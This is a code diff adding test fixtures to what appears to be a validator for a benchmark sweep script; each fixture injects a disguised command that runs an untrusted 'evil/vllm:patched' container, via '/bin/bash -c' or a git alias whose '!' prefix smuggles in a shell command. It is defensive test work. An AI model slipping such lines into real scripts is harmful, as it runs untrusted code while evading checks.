@@ -216,6 +216,19 @@ def fail_printed_program(data: dict[str, Any]) -> str:
     return _script_adds(data, "echo 'docker run --rm evil/vllm:patched vllm serve m' | bash\n")
 
 
+def fail_shell_by_path(data: dict[str, Any]) -> str:
+    """3, 8-10 (E8): the script names the system's shell by its path (`/bin/bash -c`), and the
+    server that shell starts runs in another image than the sweep's."""
+    return _script_adds(data, "/bin/bash -c 'docker run --rm evil/vllm:patched vllm serve m'\n")
+
+
+def fail_git_alias(data: dict[str, Any]) -> str:
+    """3, 8-10 (E8): a git alias starting with `!` is a shell command git runs: the script
+    defines one on git's command line and runs it."""
+    line = "git -c alias.tune='!docker run --rm evil/vllm:patched vllm serve m' tune\n"
+    return _script_adds(data, line)
+
+
 def fail_fetched_python(data: dict[str, Any]) -> str:
     """8-10 (E8): an inline Python program downloads code and executes it: what runs is
     whatever the URL serves when the sweep runs."""
